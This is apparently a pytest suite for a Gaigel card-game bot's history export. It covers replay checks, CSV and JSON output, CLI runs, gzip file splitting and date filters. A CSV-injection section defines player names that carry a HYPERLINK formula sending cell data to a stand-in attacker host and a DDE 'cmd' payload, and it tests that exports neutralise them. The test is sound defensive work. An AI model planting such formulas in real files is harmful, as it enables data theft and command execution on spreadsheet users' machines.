"""History export: every exported deal replays to its stored result; CSV; streaming; CLI."""

from __future__ import annotations

import csv
import gzip
import io
import json
import subprocess
import sys
import tracemalloc
from pathlib import Path
from typing import Any

import pytest
from conftest import SIMULATED_DEALS, SIMULATED_GUILD

from bot.service import GameService, ServiceError
from bot.service.computer_matches import play_table
from bot.service.export import (
    CSV_COLUMNS,
    MIN_LIMIT,
    Export,
    csv_cell,
    export_files,
    export_history,
    parse_since,
)
from bot.storage import open_storage
from bot.storage import queries as q
from engine.match import MatchScore, outcome_of
from engine.record import parse_record, replay, replay_deal

ROOT = Path(__file__).resolve().parents[2]


async def _history(path: str) -> tuple[int, int]:
    """Deals of 2, 3, 4 and 6 players in guild 1 (one table left mid-deal) and guild 2."""
    svc = await GameService.open(str(path))
    try:
        for i, (players, scoring) in enumerate([(2, "points"), (3, None), (4, "strokes"),
                                                (6, "tokens")]):
            state = await svc.create_table(1, 500 + i, 1, "Host", seat_host=False,
                                           players=players, scoring=scoring,
                                           preset="classic" if i % 2 else "wuerttemberg")
            await svc.start(state.table_id, 1, fill=True)
            for _ in range(3):
                await svc.next_deal(state.table_id, 1)
        await play_table(svc, 0, 2, guild_id=2)
        # a deal in progress: a person to play, never exported
        state = await svc.create_table(1, 600, 77, "Pat", players=2, rules={"last_trick_bonus": 10})
        await svc.start(state.table_id, 77, fill=True)
        assert svc.public_state(state.table_id).status == "playing"
        return state.table_id, 4 * 4 + 2
    finally:
        await svc.close()


async def _text(path: str, **kwargs: object) -> str:
    svc = await GameService.open(str(path))
    try:
        return "".join([chunk async for chunk in svc.export(**kwargs)])  # type: ignore[arg-type]
    finally:
        await svc.close()


async def test_every_exported_deal_replays_to_its_stored_result(db_url: str) -> None:
    path = db_url
    open_table, finished = await _history(path)
    data = json.loads(await _text(path, fmt="json"))
    assert data["format"] == "gaigel-history/1"
    deals = data["deals"]
    assert data["count"] == len(deals) == finished
    assert open_table not in {d["table"] for d in deals}
    matches: dict[int, MatchScore] = {}
    for record in deals:
        parsed = parse_record(record)
        out = replay(parsed)
        assert all(step["ok"] for step in out["steps"])
        assert out["result"] == record["result"]
        # the match scoring after each deal follows from the replayed deals
        deal = replay_deal(parsed)
        scoring = record["scoring"]
        shift = (record["number"] - 1) % record["players"]
        teams = 3 if record["players"] == 3 else 2
        score = matches.setdefault(record["match"], MatchScore(
            scoring["kind"], teams, scoring["after"]["limit"]))
        change = score.add(outcome_of(deal, shift))
        assert change.to_json() == scoring["change"]
        assert score.display() == scoring["after"]
        assert scoring["winner_team"] == change.winner
        assert record["dealer_chair"] == (record["players"] - 1 + shift) % record["players"]
        assert [s["seat"] for s in record["seats"]] == list(range(record["players"]))
    # and the engine's own command line agrees, on a few of them
    for record in deals[::5]:
        proc = subprocess.run([sys.executable, "-m", "engine", "replay", "-"], cwd=ROOT,
                              input=json.dumps(record), capture_output=True, text=True, check=True)
        assert json.loads(proc.stdout)["result"] == record["result"]


async def test_filters_csv_and_streaming(db_url: str) -> None:
    path = db_url
    await _history(path)
    guild1 = json.loads(await _text(path, fmt="json", guild_id=1))
    guild2 = json.loads(await _text(path, fmt="json", guild_id=2))
    assert guild1["count"] == 16 and guild2["count"] == 2
    assert {d["guild"] for d in guild1["deals"]} == {1}
    table = guild1["deals"][0]["table"]
    one = json.loads(await _text(path, fmt="json", table_id=table))
    assert one["count"] == 4 and {d["table"] for d in one["deals"]} == {table}

    text = await _text(path, fmt="csv", guild_id=1)
    rows = list(csv.reader(io.StringIO(text)))
    assert tuple(rows[0]) == CSV_COLUMNS and len(rows) == 17
    first = dict(zip(CSV_COLUMNS, rows[1], strict=True))
    assert first["players"].count(";") == 1 and " vs " in first["teams"]
    assert first["reason"] and first["games"] in ("1", "2") and first["trump"] in "EBHS"
    assert first["strokes_after"].count("/") == 1

    # small pages: many chunks, the same export
    svc = await GameService.open(str(path))
    try:
        chunks = [c async for c in export_history(svc.db, guild_id=1, fmt="json", page=3,
                                                  clock=lambda: 0.0)]
        assert len(chunks) >= 16 // 3 + 2
        paged = json.loads("".join(chunks))
        whole = json.loads("".join([c async for c in export_history(
            svc.db, guild_id=1, fmt="json", clock=lambda: 0.0)]))
        assert paged == whole
        with pytest.raises(ServiceError, match="bad_option"):
            [c async for c in svc.export(fmt="xml")]
    finally:
        await svc.close()


async def test_command_line_export(db_url: str, tmp_path: Path) -> None:
    path = db_url
    await _history(path)
    out = tmp_path / "history.json"
    subprocess.run([sys.executable, "-m", "bot", "export", "--db", str(path), "--format", "json",
                    "--guild", "1", "--out", str(out)], cwd=ROOT, check=True)
    data = json.loads(out.read_text(encoding="utf-8"))
    assert data["count"] == 16
    service = json.loads(await _text(path, fmt="json", guild_id=1))
    assert data["deals"] == service["deals"]
    proc = subprocess.run([sys.executable, "-m", "bot", "export", "--db", str(path), "--format",
                           "csv"], cwd=ROOT, check=True, capture_output=True, text=True)
    assert len(proc.stdout.strip().splitlines()) == 1 + 18


def test_command_line_simulate(db_url: str) -> None:
    path = db_url
    proc = subprocess.run([sys.executable, "-m", "bot", "simulate", "--db", str(path),
                           "--tables", "3", "--deals", "2", "--players", "4", "--level", "random"],
                          cwd=ROOT, check=True, capture_output=True, text=True)
    summary = json.loads(proc.stdout)
    assert summary["tables"] == 3 and summary["deals"] == 6 and summary["actions"] > 6 * 10
    assert summary["schema_version"] >= 1


# ---------------------------------------------------------------------- CSV injection

HYPERLINK = '=HYPERLINK("https://e.vil/?"&A1,"x")'
DDE = "@SUM(1+1)*cmd|' /C calc'!A0"


async def _deal_of_hostile_names(path: str) -> None:
    """One finished deal of two people named like spreadsheet formulas (their turns skipped
    by the host, so a computer plays them)."""
    svc = await GameService.open(str(path))
    try:
        state = await svc.create_table(1, 700, 1, HYPERLINK, players=2)
        await svc.join(state.table_id, 2, DDE)
        await svc.start(state.table_id, 1)
        while svc.public_state(state.table_id).status == "playing":
            await svc.skip(state.table_id, 1)
    finally:
        await svc.close()


async def test_csv_cells_never_start_a_formula_and_json_keeps_the_names(db_url: str) -> None:
    await _deal_of_hostile_names(db_url)
    rows = list(csv.reader(io.StringIO(await _text(db_url, fmt="csv"))))
    assert len(rows) == 2
    row = dict(zip(CSV_COLUMNS, rows[1], strict=True))
    for column, cell in row.items():
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)
    assert row["players"] == f"'{HYPERLINK}; {DDE}"
    assert row["teams"] == f"'{HYPERLINK} vs {DDE}"
    assert row["winner"] in (f"'{HYPERLINK}", f"'{DDE}")
    # JSON is the exact data
    data = json.loads(await _text(db_url, fmt="json"))
    assert [s["name"] for s in data["deals"][0]["seats"]] == [HYPERLINK, DDE]


def test_a_csv_cell_keeps_the_bots_numbers_and_neutralises_text() -> None:
    assert csv_cell(-1) == -1 and csv_cell(0) == 0 and csv_cell(2.5) == 2.5
    assert csv_cell(None) is None and csv_cell("") == ""
    for start in ("=", "+", "-", "@", "\t", "\r"):
        assert csv_cell(f"{start}1+1") == f"'{start}1+1"
    assert csv_cell("-2/5") == "'-2/5"  # a standing is text that a spreadsheet would compute
    assert csv_cell("alice") == "alice" and csv_cell("2025-01-01T00:00:00+00:00")[0] == "2"
    # written with every text cell quoted and the numbers bare
    buf = io.StringIO()
    csv.writer(buf, quoting=csv.QUOTE_NONNUMERIC).writerow([csv_cell(v) for v in (3, -1, "=A1")])
    assert buf.getvalue() == '3,-1,"\'=A1"\r\n'


# ---------------------------------------------------------------------- a long history as files

async def _files(path: Path, **kwargs: Any) -> tuple[Export, list[bytes]]:
    storage = await open_storage(str(path))
    try:
        export = await export_files(storage, **kwargs)
    finally:
        await storage.close()
    try:
        return export, [f.data.read() for f in export.files]
    finally:
        export.close()


def _documents(export: Export, blobs: list[bytes]) -> list[dict[str, Any]]:
    out = []
    for f, blob in zip(export.files, blobs, strict=True):
        assert len(blob) == f.size
        out.append(json.loads(gzip.decompress(blob) if f.compressed else blob))
    return out


async def test_6000_deals_go_as_one_gzip_file_that_holds_exactly_the_plain_export(
        simulated_copy: Path, tmp_path: Path) -> None:
    """A history of 6,000 deals (15 MB of JSON, beyond the 10 MiB Discord takes) fits one
    upload compressed, and the file decompresses to what `python -m bot export` writes (one
    uncompressed file, as before)."""
    limit = 10 * 1024 * 1024 - 64 * 1024
    export, blobs = await _files(simulated_copy, limit=limit, guild_id=SIMULATED_GUILD)
    assert export.deals == SIMULATED_DEALS and export.rest_since is None
    (f,) = export.files
    assert f.compressed and f.deals == SIMULATED_DEALS and f.size <= limit
    out = tmp_path / "all.json"
    subprocess.run([sys.executable, "-m", "bot", "export", "--db", str(simulated_copy),
                    "--guild", str(SIMULATED_GUILD), "--out", str(out)], cwd=ROOT, check=True)
    assert out.stat().st_size > limit  # the old single attachment would have failed (413)
    plain = json.loads(out.read_text(encoding="utf-8"))
    (doc,) = _documents(export, blobs)
    assert {k: v for k, v in doc.items() if k != "exported_at"} == {
        k: v for k, v in plain.items() if k != "exported_at"}
    assert doc["count"] == len(doc["deals"]) == SIMULATED_DEALS and doc["ratings"]


async def test_a_history_beyond_one_file_is_split_into_whole_files_under_the_limit(
        simulated_copy: Path) -> None:
    limit = 300_000
    export, blobs = await _files(simulated_copy, limit=limit, guild_id=SIMULATED_GUILD)
    assert len(export.files) >= 3 and export.rest_since is None
    docs = _documents(export, blobs)
    for f, doc in zip(export.files, docs, strict=True):
        assert f.compressed and limit * 0.9 < f.size <= limit or f is export.files[-1]
        assert doc["count"] == len(doc["deals"]) == f.deals
    assert ["ratings" in doc for doc in docs] == [False] * (len(docs) - 1) + [True]
    ids = [d["deal_id"] for doc in docs for d in doc["deals"]]
    assert len(ids) == SIMULATED_DEALS and ids == sorted(set(ids))
    # CSV the same way: every file with its header
    export, blobs = await _files(simulated_copy, limit=MIN_LIMIT, fmt="csv")
    rows = []
    for f, blob in zip(export.files, blobs, strict=True):
        assert f.compressed and f.size <= MIN_LIMIT
        part = list(csv.reader(io.StringIO(gzip.decompress(blob).decode())))
        assert tuple(part[0]) == CSV_COLUMNS and len(part) == 1 + f.deals
        rows += part[1:]
    assert len(rows) == SIMULATED_DEALS


async def test_an_export_that_stops_at_its_files_names_the_since_that_brings_the_rest(
        simulated_copy: Path) -> None:
    first, blobs = await _files(simulated_copy, limit=300_000, guild_id=SIMULATED_GUILD,
                                max_files=2)
    assert len(first.files) == 2 and first.rest_since is not None
    sent = {d["deal_id"] for doc in _documents(first, blobs) for d in doc["deals"]}
    assert len(sent) == first.deals < SIMULATED_DEALS
    rest, blobs = await _files(simulated_copy, limit=10 * 1024 * 1024,
                               guild_id=SIMULATED_GUILD, since=first.rest_since)
    (doc,) = _documents(rest, blobs)
    assert doc["since"] is not None
    more = {d["deal_id"] for d in doc["deals"]}
    assert len(sent | more) == SIMULATED_DEALS  # nothing lost; a deal or two may come twice
    assert len(sent & more) <= 25
    assert all(d["ended_at"] >= doc["since"] for d in doc["deals"])


async def test_exporting_6000_deals_as_files_keeps_memory_bounded(simulated_copy: Path) -> None:
    """The compressed files are built page by page: the export's own memory stays far below
    the 15 MB of JSON it writes."""
    storage = await open_storage(str(simulated_copy))
    try:
        tracemalloc.start()
        try:
            export = await export_files(storage, limit=10 * 1024 * 1024,
                                        guild_id=SIMULATED_GUILD)
            peak = tracemalloc.get_traced_memory()[1]
        finally:
            tracemalloc.stop()
        export.close()
    finally:
        await storage.close()
    assert export.deals == SIMULATED_DEALS
    assert peak < 8 * 1024 * 1024, peak


def test_since_takes_a_day_or_a_moment_in_utc() -> None:
    assert parse_since("2025-03-01") == 1740787200.0
    assert parse_since(" 2025-03-01T18:30 ") == 1740787200.0 + 18.5 * 3600
    assert parse_since("2025-03-01 18:30:05+01:00") == 1740787200.0 + 17.5 * 3600 + 5
    for bad in ("yesterday", "2025-13-01", "", "1740787200", "2025-03-01T25:00"):
        with pytest.raises(ValueError):
            parse_since(bad)


async def test_since_and_the_rest_of_an_export_on_both_back_ends(db_url: str) -> None:
    await _history(db_url)
    storage = await open_storage(db_url)
    try:
        # the deals ended an hour apart (they were played within a second)
        await storage.write(lambda c: c.execute(
            "UPDATE deals SET ended_at = 1700000000.5 + 3600 * id WHERE ended_at IS NOT NULL"))
    finally:
        await storage.close()
    every = json.loads(await _text(db_url, fmt="json"))["deals"]
    since = parse_since(every[len(every) // 2]["ended_at"])
    later = json.loads(await _text(db_url, fmt="json", since=since))
    assert later["since"] == every[len(every) // 2]["ended_at"]
    assert [d["deal_id"] for d in later["deals"]] == [
        d["deal_id"] for d in every if parse_since(d["ended_at"]) >= since]
    assert 0 < later["count"] < len(every)
    storage = await open_storage(db_url)
    try:
        export = await export_files(storage, limit=MIN_LIMIT, fmt="json", since=since)
        assert export.deals == later["count"] and len(export.files) == 1
        doc = json.loads(export.files[0].data.read())  # small: plain
        export.close()
        assert doc["deals"] == later["deals"]
        middle = every[len(every) // 2]["deal_id"]
        first = await storage.read(q.first_end_from, middle, None, None, None)
        assert first == 1700000000.5 + 3600 * middle
        assert await storage.read(q.first_end_from, 10**9, None, None, None) is None
    finally:
        await storage.close()
